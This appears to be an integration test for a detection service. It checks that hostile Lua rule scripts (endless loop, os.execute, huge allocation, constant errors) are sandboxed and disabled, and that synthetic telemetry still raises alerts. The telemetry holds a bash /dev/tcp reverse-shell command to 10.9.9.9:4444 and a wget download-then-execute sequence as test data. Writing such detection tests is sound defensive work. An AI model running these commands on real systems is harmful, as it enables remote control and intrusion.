// Hostile Lua rule scripts in a running intelligence service (real nats-server, real gRPC, signed
// telemetry): an endless loop, os.execute, a 1 GB string and a script that errors on every event
// are each stopped within their budget or refused, counted, alerted and disabled after maxFaults,
// while every batch published meanwhile still raises its Sigma alert and the example script's.
import { existsSync } from 'node:fs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { connectBus, type Bus } from '@omega/bus';
import {
  IntelligenceServiceClient,
  RuleFormat,
  Severity,
  type Alert,
  type IntelligenceServiceService,
} from '@omega/proto';
import { createLogger, createPromiseClient, type PromiseClient } from '@omega/runtime';
import { runService, type RunningService } from '@omega/service';
import { eventually, localServiceEnv, withNats } from '@omega/testkit';
import { AlertStore } from '../alert-store';
import {
  buildIntelligence,
  INTELLIGENCE_RESOURCES,
  intelligenceServiceConfigSchema,
  type IntelligenceServiceConfig,
} from '../intelligence-service';
import { processLaunch } from '../testing/spec-events';
import { SpecSentinel } from '../testing/spec-sentinel';

const nats = withNats({ jetstream: true });
const REVERSE_SHELL_RULE = 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02';
const MAX_FAULTS = 3;
const PWNED = `/tmp/omega-lua-pwned-${process.pid}`;
const HOSTILE: Record<string, { body: string; reason: string }> = {
  'endless-loop': { body: 'while true do end', reason: 'budget' },
  'os-execute': { body: `os.execute('touch ${PWNED}')`, reason: 'error' },
  'gigabyte-string': {
    body: "local s = string.rep('x', 1 << 30) return { explanation = #s }",
    reason: 'memory',
  },
  'always-errors': { body: "error('this script fails on every event')", reason: 'error' },
};
const EXAMPLE = readFileSync(
  join(__dirname, '..', '..', 'lua-rules', 'download-then-execute.lua'),
  'utf8',
);
const BATCHES = 6;
const T0 = 1_700_000_000_000_000_000n;

let running: RunningService<IntelligenceServiceConfig>;
let bus: Bus;
let store: AlertStore;
let client: PromiseClient<typeof IntelligenceServiceService>;
let sentinel: SpecSentinel;

beforeAll(async () => {
  running = await runService({
    name: 'intelligence',
    configSchema: intelligenceServiceConfigSchema,
    resources: INTELLIGENCE_RESOURCES,
    installSignalHandlers: false,
    env: localServiceEnv(nats.url, {
      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
      OMEGA_INTELLIGENCE_LUA_MAX_FAULTS: String(MAX_FAULTS),
    }),
    build: buildIntelligence,
  });
  bus = await connectBus({
    servers: nats.url,
    name: 'lua-hostile-spec',
    logger: createLogger({ service: 'spec', level: 'silent' }),
  });
  sentinel = await SpecSentinel.enroll(bus, 'node-1');
  store = new AlertStore(bus);
  client = createPromiseClient(IntelligenceServiceClient, `127.0.0.1:${running.grpcPort}`);
}, 30_000);

nats.beforeStop(async () => {
  client?.close();
  await bus?.drain();
  await running?.service.shutdown('test done');
});

/** A reverse shell (a shipped Sigma rule), then curl and a /tmp program (the example script). */
function batchFor(i: number) {
  const pod = `web-${i}`;
  const t = T0 + BigInt(i) * 1_000_000_000n;
  return [
    processLaunch(
      {
        'omega.pod': pod,
        Image: '/bin/bash',
        CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
        ParentImage: '/bin/bash',
      },
      { id: `${pod}-shell`, timeNs: t },
    ),
    processLaunch(
      { 'omega.pod': pod, Image: '/usr/bin/wget', CommandLine: 'wget http://h/x -O /dev/shm/x' },
      { id: `${pod}-wget`, timeNs: t + 1n },
    ),
    processLaunch(
      { 'omega.pod': pod, Image: '/dev/shm/x' },
      { id: `${pod}-run`, timeNs: t + 2_000_000_000n },
    ),
  ];
}

async function alerts(predicate: (a: Alert) => boolean): Promise<Alert[]> {
  return (await store.list(undefined, 1000)).alerts.map((s) => s.alert).filter(predicate);
}

async function faultCount(rule: string, reason: string): Promise<number> {
  const metric = await running.service.metrics
    .getSingleMetric('omega_intelligence_lua_faults_total')!
    .get();
  return (
    metric.values.find((v) => v.labels.rule === rule && v.labels.reason === reason)?.value ?? 0
  );
}

it('stops, counts, alerts and disables each hostile script while telemetry keeps raising alerts', async () => {
  const loaded = await client.loadRules({
    sources: [
      ...Object.entries(HOSTILE).map(([id, { body }]) => ({
        name: `${id}.lua`,
        format: RuleFormat.RULE_FORMAT_LUA,
        content: `rule = { id = '${id}', title = '${id}' }\nfunction on_event(event, state) ${body} end\n`,
      })),
      { name: 'download-then-execute.lua', format: RuleFormat.RULE_FORMAT_LUA, content: EXAMPLE },
    ],
    replaceAll: false,
    requestId: 'hostile-load',
  });
  expect(loaded.diagnostics).toEqual([]);
  expect(loaded.loaded).toBe(true);

  for (let i = 0; i < BATCHES; i++) await sentinel.publish('process', batchFor(i));

  // Every batch still raised its Sigma alert and the example script's finding.
  const shells = await eventually('a reverse-shell alert per batch', async () => {
    const found = await alerts((a) => a.ruleId === REVERSE_SHELL_RULE);
    return found.length === BATCHES ? found : undefined;
  });
  expect(
    new Set(shells.map((a) => a.entities.find((e) => e.value.startsWith('shop/'))?.value)).size,
  ).toBe(BATCHES);
  const downloads = await eventually('a download-then-execute alert per batch', async () => {
    const found = await alerts((a) => a.ruleId === 'lua:download-then-execute');
    return found.length === BATCHES ? found : undefined;
  });
  expect(downloads.map((a) => a.explanation).sort()[0]).toContain(
    'pod:shop/web-0 ran /dev/shm/x 1 s after downloading with "wget http://h/x -O /dev/shm/x"',
  );
  expect(downloads[0]).toMatchObject({
    severity: Severity.SEVERITY_HIGH,
    attackTechniqueIds: ['T1105', 'T1059.004'],
  });

  for (const [id, { reason }] of Object.entries(HOSTILE)) {
    const ruleId = `lua:${id}`;
    // Faulted on its first MAX_FAULTS events, then disabled: never called again.
    expect(await faultCount(ruleId, reason)).toBe(MAX_FAULTS);
    const raised = await eventually(`the fault and disable alerts of ${ruleId}`, async () => {
      const found = await alerts((a) => a.ruleId === ruleId);
      return found.length === 2 ? found : undefined;
    });
    const disabled = raised.find((a) => a.labels['detector.kind'] === 'lua-disabled')!;
    expect(disabled.severity).toBe(Severity.SEVERITY_MEDIUM);
    expect(disabled.labels['lua.fault']).toBe(reason);
    expect(disabled.explanation).toContain(`disabled after ${MAX_FAULTS} faults`);
    const first = raised.find((a) => a.labels['detector.kind'] === 'lua-fault')!;
    expect(first.labels['lua.faults']).toBe('1');
  }
  const { rules } = await client.listRules({
    kind: 0,
    attackTechniqueId: '',
    includeDisabled: true,
    includeSource: false,
    pageSize: 1000,
    pageToken: '',
  });
  const enabled = Object.fromEntries(
    rules.filter((r) => r.id.startsWith('lua:')).map((r) => [r.id, r.enabled]),
  );
  expect(enabled).toEqual({
    'lua:endless-loop': false,
    'lua:os-execute': false,
    'lua:gigabyte-string': false,
    'lua:always-errors': false,
    'lua:download-then-execute': true,
  });
  expect(existsSync(PWNED)).toBe(false);
}, 60_000);
